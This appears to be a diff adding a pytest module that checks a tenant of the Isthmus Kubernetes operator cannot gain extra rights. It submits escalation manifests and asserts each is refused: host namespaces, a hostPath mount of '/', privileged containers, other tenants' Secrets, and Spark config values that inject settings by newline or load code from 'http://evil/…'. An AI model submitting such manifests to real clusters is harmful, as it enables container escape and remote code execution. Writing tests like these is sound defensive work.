@@ -1,0 +1,144 @@
+"""What a tenant that may write all Isthmus resources, and nothing else, can reach by them: nothing that it may not.
+
+The API server refuses each try: by RBAC, by the schemas, or by the admission policies of the chart.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from . import installation
+from .harness.cluster import Cluster
+from .harness.host import CommandError
+
+SIDE = {"name": "side", "image": "evil:1"}
+
+
+def resource(kind: str, **spec: Any) -> dict[str, Any]:
+    return {"apiVersion": "isthmus.dev/v1alpha1", "kind": kind, "metadata": {"name": "x"}, "spec": spec}
+
+
+def router(**pod: Any) -> dict[str, Any]:
+    return resource("Router", podTemplate={"spec": pod})
+
+
+def analysis(**spec: Any) -> dict[str, Any]:
+    return resource("FlowAnalysis", flowLogRef={"name": "flows"}, **spec)
+
+
+def plain(
+    kind: str, version: str = "v1", labels: dict[str, str] | None = None, **fields: Any
+) -> dict[str, Any]:
+    metadata = {"name": "x", "labels": labels or {}}
+    return {"apiVersion": version, "kind": kind, "metadata": metadata, **fields}
+
+
+POD = plain("Pod", spec={"containers": [SIDE]})
+LOG = {"routerRef": {"name": "hub"}, "volume": {"size": "1Gi"}}
+RBAC = "rbac.authorization.k8s.io/v1"
+ROLE = {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "x"}
+DRIVER = {**ROLE, "name": "isthmus-flow-driver"}
+SUBJECT = {"kind": "ServiceAccount", "name": "tenant", "namespace": "default"}
+
+BY_RESOURCES: list[tuple[str, dict[str, Any]]] = [
+    ("hostNetwork", router(hostNetwork=True)),
+    ("hostPID", router(hostPID=True)),
+    ("hostIPC", router(hostIPC=True)),
+    ("hostUsers", router(hostUsers=True)),
+    ("nodeName", router(nodeName="control-plane")),
+    ("serviceAccountName", router(serviceAccountName="isthmus-operator")),
+    ("automountServiceAccountToken", router(automountServiceAccountToken=True)),
+    ("shareProcessNamespace", router(shareProcessNamespace=True)),
+    ("hostAliases", router(hostAliases=[{"ip": "10.0.0.1", "hostnames": ["a"]}])),
+    ("dnsConfig", router(dnsConfig={"nameservers": ["203.0.113.1"]})),
+    ("volumes", router(volumes=[{"name": "h", "hostPath": {"path": "/"}}])),
+    ("volumes", router(volumes=[{"name": "s", "secret": {"secretName": "others"}}])),
+    ("volumes", router(volumes=[{"name": "t", "projected": {"sources": []}}])),
+    ("containers", router(containers=[{"name": "router", "command": ["sh"]}])),
+    ("containers", router(containers=[{"name": "router", "securityContext": {"privileged": True}}])),
+    ("containers", router(containers=[{"name": "router", "image": "evil:1"}])),
+    ("containers", router(containers=[{"name": "router", "envFrom": [{"secretRef": {"name": "others"}}]}])),
+    ("spec.image", resource("Router", image="evil:1")),
+    ("spec.image", resource("Router", image="evil:1\nx")),
+    ("spec.image", resource("GossipRouter", image="evil:1")),
+    ("spec.image", resource("FlowLog", **LOG, image="evil:1")),
+    ("spec.image", analysis(image="evil:1")),
+    ("hostNetwork", resource("GossipRouter", podTemplate={"spec": {"hostNetwork": True}})),
+    ("hostNetwork", resource("FlowLog", **LOG, podTemplate={"spec": {"hostNetwork": True}})),
+    ("serviceAccountName", analysis(podTemplate={"spec": {"serviceAccountName": "isthmus-operator"}})),
+    ("containers", analysis(podTemplate={"spec": {"containers": [{"name": "driver", "args": ["x"]}]}})),
+    ("sparkConf", analysis(sparkConf={"spark.task.cpus": "1\nspark.jars http://evil/x.jar"})),
+    ("sparkConf", analysis(sparkConf={"spark.kubernetes.namespace": "kube-system"})),
+    ("sparkConf", analysis(sparkConf={"spark.submit.pyFiles": "http://evil/x.py"})),
+    ("sparkConf", analysis(sparkConf={"spark.authenticate": "false"})),
+]
+DIRECTLY: list[tuple[str, dict[str, Any]]] = [
+    ("forbidden", POD),
+    ("forbidden", plain("Secret")),
+    ("forbidden", plain("RoleBinding", RBAC, roleRef=ROLE, subjects=[SUBJECT])),
+]
+BY_THE_OPERATOR: list[tuple[str, dict[str, Any]]] = [
+    ("only Secrets of its own", plain("Secret")),
+    ("only Secrets of its own", plain("Secret", labels={"app.kubernetes.io/managed-by": "Helm"})),
+    ("accounts of the same namespace", plain("RoleBinding", RBAC, roleRef=DRIVER, subjects=[SUBJECT])),
+    ("forbidden", plain("RoleBinding", RBAC, roleRef=ROLE, subjects=[SUBJECT])),
+    ("forbidden", POD),
+]
+
+
+class Place:
+    """A namespace with an operator, and a tenant that may write all Isthmus resources there, and nothing else."""
+
+    def __init__(self, cluster: Cluster, namespace: str) -> None:
+        self._cluster = cluster
+        self._namespace = namespace
+        subject = {"kind": "ServiceAccount", "name": "tenant", "namespace": namespace}
+        rules = [{"apiGroups": ["isthmus.dev"], "resources": ["*"], "verbs": ["*"]}]
+        cluster.apply(
+            plain("Role", RBAC, rules=rules),
+            plain("RoleBinding", RBAC, roleRef=ROLE, subjects=[subject]),
+            namespace=namespace,
+        )
+
+    def create(self, account: str, manifest: dict[str, Any]) -> None:
+        """As this service account; nothing is stored."""
+        user = f"--as=system:serviceaccount:{self._namespace}:{account}"
+        self._cluster.kubectl(
+            *("create", "--dry-run=server", user, f"--namespace={self._namespace}", "--filename=-"),
+            input=json.dumps(manifest),
+        )
+
+    def refused(self, account: str, word: str, manifest: dict[str, Any]) -> None:
+        """It must not create this, and the answer has `word` in it."""
+        with pytest.raises(CommandError) as error:
+            self.create(account, manifest)
+        assert word in error.value.output, manifest
+
+
+@pytest.fixture(scope="module")
+def place(cluster: Cluster) -> Iterator[Place]:
+    with (
+        installation.schemas(cluster),
+        cluster.namespace("tenant") as name,
+        installation.operator(cluster, name),
+    ):
+        yield Place(cluster, name)
+
+
+def test_the_tenant_may_write_what_it_is_meant_to(place: Place) -> None:
+    for manifest in (resource("Router"), router(nodeSelector={"a": "b"}), analysis(schedule="@daily")):
+        place.create("tenant", manifest)
+
+
+def test_no_resource_of_a_tenant_gets_rights(place: Place) -> None:
+    for word, manifest in (*BY_RESOURCES, *DIRECTLY):
+        place.refused("tenant", word, manifest)
+
+
+def test_the_operator_itself_cannot_write_what_its_code_never_writes(place: Place) -> None:
+    for word, manifest in BY_THE_OPERATOR:
+        place.refused("isthmus-operator", word, manifest)
